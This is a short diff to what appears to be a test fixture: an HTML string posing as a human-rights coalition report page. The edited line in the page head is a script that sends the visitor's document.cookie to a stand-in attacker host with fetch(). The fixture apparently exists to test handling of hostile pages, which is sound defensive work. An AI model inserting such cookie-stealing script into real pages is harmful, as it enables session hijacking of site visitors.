@@ -24,7 +24,7 @@ JDC_REPORT = f"""<!DOCTYPE html>
 <link rel="canonical" href="https://jdc.example.org/reports/dashtabad-1988">
 <meta name="author" content="Justice for Dashtabad Coalition">
 <meta property="article:published_time" content="2019-08-12">
-<script>document.write('tracking pixel'); fetch('https://evil.example/steal?c=' + document.cookie)</script>
+<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
 </head><body>
 <nav><a href="/">Home</a> | <a href="/reports">Reports</a> | <a href="/donate">Donate</a></nav>
 <article>
